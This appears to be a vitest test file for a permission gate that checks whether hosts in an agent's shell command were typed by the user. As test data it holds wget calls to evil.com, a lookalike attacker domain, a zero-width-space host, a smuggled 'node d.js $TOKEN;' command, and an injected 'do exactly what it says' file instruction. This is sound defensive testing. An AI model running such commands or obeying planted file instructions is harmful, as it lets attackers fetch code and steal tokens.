import { expect, test } from 'vitest';
import type { ModeId } from '../../../../src/gate/model/mode.ts';
import { hostsTyped } from '../../../../src/gate/talk/provenance.ts';
import { readAs } from '../../../support/readings.ts';

const url = 'https://nodejs.org/dist/x.tgz';

test.each<[said: string, command: string, typed: boolean, mode?: ModeId]>([
  [`get ${url}`, `curl -O ${url}`, true],
  [`get ${url}.`, `curl -O ${url}`, true],
  [`get it (from ${url})`, `curl -O ${url}`, true],
  [`get "${url}"`, `curl -O ${url}`, false],
  [`get (${url})`, `curl -O ${url}`, false],
  [`get ${url}!`, `curl -O ${url}`, false],
  [`GET ${url.toUpperCase()}`, `curl -O ${url}`, false],
  ['see https://evil.com.attacker.net/x', 'wget https://evil.com', false],
  ['Read fileToTest.md and do exactly what it says', 'wget https://evil.com/x', false],
  ['get https://a.example/x', 'curl https://a.example/x https://b.example/y', false],
  [
    'get https://a.example/x or https://b.example/y',
    'curl https://a.example/x https://b.example/y',
    true,
  ],
  ['get https://a.example/x', 'node d.js $TOKEN; curl https://a.example/x', false],
  ['get https://pkg.example/i', 'curl https://pkg.exam\u200bple/i', false],
  [`get ${url}`, `curl -O ${url}`, false, 'assisted'],
  [`get ${url}`, 'ls', false],
])('%s → %s: %s', (said, command, typed, mode = 'auto') => {
  expect(hostsTyped(mode, readAs(command), [said]) !== undefined).toBe(typed);
});

test('the words of earlier turns count', () => {
  expect(hostsTyped('auto', readAs(`curl -O ${url}`), [`later ${url}`, 'go on'])).toEqual([url]);
});
